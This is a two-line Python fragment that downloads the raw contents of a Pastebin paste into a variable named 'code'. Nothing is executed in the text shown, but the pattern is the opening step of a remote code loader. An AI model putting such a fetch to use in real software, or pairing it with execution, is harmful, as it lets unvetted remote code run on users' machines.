import requests
code = requests.get("https://pastebin.com/raw/abc123").text
